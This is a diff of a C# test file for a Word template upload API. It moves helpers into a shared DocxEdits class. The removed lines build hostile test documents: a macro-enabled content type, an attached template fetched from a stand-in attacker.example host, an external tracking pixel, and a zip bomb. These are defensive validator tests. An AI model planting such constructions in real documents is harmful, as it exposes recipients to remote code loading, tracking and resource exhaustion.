@@ -36,42 +36,10 @@ public sealed class TemplateApiTests(AzuriteFixture fixture) : IAsyncLifetime
         return host.Lead.PutAsync($"api/templates/{kind}", content);
     }
 
-    private static byte[] Edit(byte[] docx, Action<WordprocessingDocument> edit)
-    {
-        using var stream = new MemoryStream();
-        stream.Write(docx);
-        stream.Position = 0;
-        using (var document = WordprocessingDocument.Open(stream, true))
-        {
-            edit(document);
-        }
-
-        return stream.ToArray();
-    }
-
-    private static byte[] EditZip(byte[] docx, Action<ZipArchive> edit)
-    {
-        using var stream = new MemoryStream();
-        stream.Write(docx);
-        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
-        {
-            edit(zip);
-        }
-
-        return stream.ToArray();
-    }
-
-    private static void Write(ZipArchive zip, string name, string text)
-    {
-        zip.GetEntry(name)?.Delete();
-        using var writer = new StreamWriter(zip.CreateEntry(name).Open());
-        writer.Write(text);
-    }
-
     [Fact]
     public async Task A_restyled_template_is_used_for_the_next_paper_and_reverting_restores_the_built_in_one()
     {
-        byte[] restyled = Edit(await CurrentTemplateAsync(), document =>
+        byte[] restyled = DocxEdits.Word(await CurrentTemplateAsync(), document =>
         {
             var main = document.MainDocumentPart!;
             foreach (var fonts in main.StyleDefinitionsPart!.Styles!.Descendants<RunFonts>())
@@ -128,43 +96,19 @@ public sealed class TemplateApiTests(AzuriteFixture fixture) : IAsyncLifetime
 
         byte[] bad = kind switch
         {
-            "missing-tag" => Edit(good, d => Control(d, "milestone.due").Remove()),
-            "unknown-tag" => Edit(good, d => Control(d, "milestone.due").SdtProperties!.GetFirstChild<Tag>()!.Val = "milestone.owner"),
-            "misplaced-tag" => Edit(good, d =>
+            "missing-tag" => DocxEdits.Word(good, d => DocxEdits.Control(d, "milestone.due").Remove()),
+            "unknown-tag" => DocxEdits.Word(good, d => DocxEdits.Control(d, "milestone.due").SdtProperties!.GetFirstChild<Tag>()!.Val = "milestone.owner"),
+            "misplaced-tag" => DocxEdits.Word(good, d =>
             {
-                var activity = Control(d, "milestone.activity");
+                var activity = DocxEdits.Control(d, "milestone.activity");
                 var paragraph = d.MainDocumentPart!.Document!.Body!.Elements<Paragraph>().First();
                 paragraph.AppendChild(activity.CloneNode(true));
             }),
-            "docm" => EditZip(good, zip =>
-            {
-                string types;
-                using (var reader = new StreamReader(zip.GetEntry("[Content_Types].xml")!.Open()))
-                {
-                    types = reader.ReadToEnd();
-                }
-
-                Write(zip, "[Content_Types].xml", types.Replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal));
-                Write(zip, "word/vbaProject.bin", "not really VBA");
-            }),
-            "external-template" => Edit(good, d =>
-            {
-                var settings = d.MainDocumentPart!.DocumentSettingsPart!;
-                settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("https://attacker.example/evil.dotm"), "rIdAttached");
-                settings.Settings!.PrependChild(new AttachedTemplate { Id = "rIdAttached" });
-            }),
-            "external-image" => Edit(good, d =>
-                d.MainDocumentPart!.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri("https://tracker.example/pixel.png"), "rIdPixel")),
+            "docm" => DocxEdits.Zip(good, DocxEdits.MakeMacroEnabled),
+            "external-template" => DocxEdits.Word(good, DocxEdits.AttachRemoteTemplate),
+            "external-image" => DocxEdits.Word(good, DocxEdits.AddExternalImage),
             "not-a-zip" => "this is plain text, not a Word file"u8.ToArray(),
-            "zip-bomb" => EditZip(good, zip =>
-            {
-                using var stream = zip.CreateEntry("word/media/bomb.bin", CompressionLevel.SmallestSize).Open();
-                var zeros = new byte[1024 * 1024];
-                for (int i = 0; i < 80; i++)
-                {
-                    stream.Write(zeros);
-                }
-            }),
+            "zip-bomb" => DocxEdits.Zip(good, DocxEdits.AddBomb),
             _ => throw new ArgumentOutOfRangeException(nameof(kind)),
         };
 
@@ -179,10 +123,10 @@ public sealed class TemplateApiTests(AzuriteFixture fixture) : IAsyncLifetime
     [Fact]
     public async Task A_template_missing_several_tags_lists_each_one()
     {
-        byte[] bad = Edit(await CurrentTemplateAsync(), d =>
+        byte[] bad = DocxEdits.Word(await CurrentTemplateAsync(), d =>
         {
-            Control(d, "meeting.date").Remove();
-            Control(d, "milestones.groups").Remove();
+            DocxEdits.Control(d, "meeting.date").Remove();
+            DocxEdits.Control(d, "milestones.groups").Remove();
         });
 
         var problem = await (await UploadAsync(bad)).ExpectAsync(422);
@@ -204,7 +148,4 @@ public sealed class TemplateApiTests(AzuriteFixture fixture) : IAsyncLifetime
         officer.Headers.ContentType = new MediaTypeHeaderValue(Docx);
         await (await host.Officer.PutAsync("api/templates/select-committee", officer)).ExpectAsync(403);
     }
-
-    private static SdtElement Control(WordprocessingDocument document, string tag) =>
-        document.MainDocumentPart!.Document!.Descendants<SdtElement>().First(s => s.SdtProperties?.GetFirstChild<Tag>()?.Val?.Value == tag);
 }
